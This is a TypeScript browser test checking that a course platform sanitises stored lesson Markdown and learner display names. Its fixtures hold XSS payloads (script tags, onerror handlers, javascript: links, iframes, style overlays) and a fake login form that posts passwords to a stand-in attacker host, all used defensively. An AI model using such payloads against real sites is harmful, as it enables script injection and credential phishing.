import { randomUUID } from 'node:crypto';
import { course, likertAnswers, modulesInOrder } from '../support/course-player';
import { DEMO } from '../support/demo-accounts';
import { type BrowserApp, signIn, startBrowserApp } from '../support/browser-app';

jest.setTimeout(120_000);

const HOSTILE_MARKDOWN = `

<script>window.__xss = 'script'</script>
<img src="x" onerror="window.__xss = 'img'">
[un enlace](javascript:window.__xss='link')
<iframe src="javascript:window.__xss='iframe'"></iframe>
<style>main { display: none }</style>
<div style="position:fixed;inset:0;z-index:9999;background:white">Su sesión expiró. Vuelva a ingresar.</div>
<form action="https://evil.example/"><input name="password" type="password"><button>Ingresar</button></form>
`;
const HOSTILE_NAME = `<img src=x onerror="window.__xss='name'">Ana`;

/** Stored text — a lesson an author saved with markup, a learner's chosen name — renders as text, never as code. */
describe('browser: stored Markdown and names never execute script', () => {
  let app: BrowserApp;

  beforeAll(async () => {
    app = await startBrowserApp();
  });
  afterAll(() => app?.stop());

  it('renders a hostile lesson and a hostile name as inert text', async () => {
    // An author publishes a lesson whose Markdown carries script, event handlers, javascript: links and an iframe.
    const admin = await app.token(DEMO.admin);
    const [summary] = await app.api('/api/courses', { token: admin });
    const draft = await app.api(`/api/courses/${summary.id}/draft`, { method: 'POST', token: admin });
    const module = modulesInOrder()[0];
    const lesson = module.lessons[0];
    await app.api(`/api/course-versions/${draft.id}/lessons/${lesson.key}`, {
      method: 'PATCH', token: admin, body: { body: { es: lesson.body.es + HOSTILE_MARKDOWN, en: lesson.body.en + HOSTILE_MARKDOWN } },
    });
    await app.api(`/api/course-versions/${draft.id}/publish`, { method: 'POST', token: admin, body: { changeNote: { es: 'Prueba de seguridad', en: 'Security test' } } });

    // A learner whose chosen name is markup joins (pinned to the new version) and reaches the lesson.
    const email = `xss.${randomUUID().slice(0, 6)}@pnp.gob.pe`;
    await app.api('/api/auth/register', {
      method: 'POST',
      body: { inviteCode: 'DEMO-2026', email, displayName: HOSTILE_NAME, password: 'frase larga de prueba 2026', positionType: 'police', region: 'lima' },
    });
    const token = await app.token({ email, password: 'frase larga de prueba 2026' });
    const [enrolment] = await app.api('/api/enrolments/mine', { token });
    const post = (path: string, body: object = {}) => app.api(`/api/enrolments/${enrolment.id}${path}`, { method: 'POST', token, body: { idempotencyKey: randomUUID(), ...body } });
    await post('/consent', { evaluationUse: true });
    await post('/assessments/pre/knowledge', { answers: {} });
    await post('/assessments/pre/attitude', { answers: likertAnswers(3) });

    const context = await app.browser.newContext({ viewport: { width: 360, height: 740 } });
    const page = await context.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
    await signIn(page, app.url, { email, password: 'frase larga de prueba 2026' });
    await page.getByText(HOSTILE_NAME, { exact: false }).first().waitFor();

    await page.goto(`${app.url}/learn/${enrolment.id}/modules/${module.key}/lessons/${lesson.key}`);
    await page.getByRole('heading', { level: 1 }).first().waitFor();
    // The lesson's text (it loads its Markdown reader with it): the hostile part is there, as words.
    await page.locator('main .prose').getByText('Su sesión expiró', { exact: false }).first().waitFor();
    await page.waitForTimeout(500);
    const state = await page.evaluate(() => ({
      xss: (window as unknown as { __xss?: string }).__xss,
      scripts: document.querySelectorAll('main script').length,
      handlers: [...document.querySelectorAll('main *')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
      javascriptLinks: [...document.querySelectorAll('main a')].filter((a) => (a.getAttribute('href') ?? '').toLowerCase().startsWith('javascript:')).length,
      iframes: document.querySelectorAll('main iframe').length,
      // No lesson can restyle the page, overlay it or collect passwords (sanitiser allow-list; CSP as second lock).
      styles: document.querySelectorAll('main style, main .prose [style], main form, main input').length,
      fixed: [...document.querySelectorAll('main .prose *')].filter((el) => getComputedStyle(el).position === 'fixed').length,
    }));
    expect(state).toEqual({ xss: undefined, scripts: 0, handlers: 0, javascriptLinks: 0, iframes: 0, styles: 0, fixed: 0 });
    expect(dialogs).toEqual([]);
    expect(course().modules.length).toBeGreaterThan(0);
    await context.close();
  });
});
